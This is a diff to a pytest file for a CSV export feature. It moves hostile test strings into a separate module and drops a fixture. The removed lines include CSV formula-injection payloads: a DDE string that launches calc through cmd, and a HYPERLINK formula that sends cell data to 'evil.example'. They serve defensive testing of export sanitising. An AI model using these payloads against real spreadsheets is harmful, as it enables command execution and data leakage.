@@ -11,18 +11,10 @@ import pytest
 from app.export.csv_export import COLUMNS, FORMULA_PREFIXES, csv_chunks, neutralise
 from app.workflow import service
 from app.workflow.queries import ClaimFilters
-
-HOSTILE_ARTICLE = (
-    "Tax rises were announced on Monday.\n\n"
-    '"Taxes rose by 40 percent last year," the finance minister Jane Roe said.\n\n'
-    'Володимир Зеленський said: "We will rebuild every city."'
+from tests.export.hostile import (
+    HOSTILE_ARTICLE, HOSTILE_CONTENT, HOSTILE_PUBLISHER, HOSTILE_RATIONALE, HOSTILE_SPEAKER, HOSTILE_TITLE,
+    HOSTILE_URL,
 )
-HOSTILE_TITLE = 'Breaking: "quotes", commas,\nand a newline'
-HOSTILE_PUBLISHER = "\t=1+2"
-HOSTILE_URL = "@SUM(1+1)*cmd|' /C calc'!A0"
-HOSTILE_CONTENT = '=HYPERLINK("http://evil.example/?x="&A1,"Click me") said "he", twice'
-HOSTILE_RATIONALE = '-1 for "accuracy", see:\n\n=SUM(1,2)\r\nafter a CR LF; 日本語, عربى'
-HOSTILE_SPEAKER = "+Ευάγγελος \"Βαγγέλης\", Jr."
 
 
 def parse(data: bytes) -> list[list[str]]:
@@ -62,18 +54,6 @@ def test_header_lists_the_columns_in_order(app):
 
 
 # --- hostile content round trip ---------------------------------------------------------------
-
-@pytest.fixture
-def hostile(ingest, editor, reviewer, approve):
-    """An approved claim whose every text column carries something hostile."""
-    result = ingest(HOSTILE_ARTICLE, title=HOSTILE_TITLE, publisher=HOSTILE_PUBLISHER, url=HOSTILE_URL)
-    first, second = result.claims
-    service.update_claim(first.id, user=editor, version=None,
-                         changes={"content": HOSTILE_CONTENT, "speaker": HOSTILE_SPEAKER})
-    approve(first.id, "mostly_false", rationale=HOSTILE_RATIONALE,
-            urls=["https://example.org/a", "https://example.org/b?q=1,2"])
-    return first.id, second.id
-
 
 def test_hostile_content_round_trips_through_the_csv_reader(hostile, editor, reviewer):
     first, second = hostile
